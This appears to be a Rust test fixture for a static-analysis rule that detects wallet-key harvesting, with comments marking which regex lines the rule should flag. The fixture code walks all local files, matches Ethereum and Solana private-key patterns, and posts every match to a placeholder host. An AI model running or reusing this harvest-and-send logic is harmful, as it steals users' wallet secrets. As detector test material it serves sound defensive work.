// Fixture for generic-wallet-key-harvest. The WalkDir walk and the reqwest post below are
// file-level conditions; each ruleid line is a key-shaped regex.
// RULEID: a quoted 0x + 64 hex regex; a Solana base58 secret key length; a byte-array regex.
// OK: a 40-hex address regex; a 64-hex digest regex without 0x; a semver regex.
use regex::Regex;
use walkdir::WalkDir;

const RPC: &str = "https://rpc-pool.example/";

fn scan() -> Vec<String> {
    // ruleid: generic-wallet-key-harvest
    let eth = Regex::new(r#""0x[0-9a-fA-F]{64}""#).unwrap();
    // ruleid: generic-wallet-key-harvest
    let sol = Regex::new(r#""[1-9A-HJ-NP-Za-km-z]{86,88}""#).unwrap();
    // ruleid: generic-wallet-key-harvest
    let bytes = Regex::new(r"\[\s*(\d{1,3}\s*,\s*){31,63}\d{1,3}\s*\]").unwrap();
    // ok: generic-wallet-key-harvest
    let addr = Regex::new(r"0x[0-9a-fA-F]{40}").unwrap();
    // ok: generic-wallet-key-harvest
    let digest = Regex::new(r"^[0-9a-f]{64}$").unwrap();
    // ok: generic-wallet-key-harvest
    let semver = Regex::new(r"^\d+\.\d+\.\d+$").unwrap();
    let mut out = Vec::new();
    for e in WalkDir::new(".").into_iter().filter_map(Result::ok) {
        let text = std::fs::read_to_string(e.path()).unwrap_or_default();
        for re in [&eth, &sol, &bytes, &addr, &digest, &semver] {
            out.extend(re.find_iter(&text).map(|m| m.as_str().to_string()));
        }
    }
    out
}

fn report(hits: &[String]) {
    let _ = reqwest::blocking::Client::new().post(RPC).json(&hits).send();
}
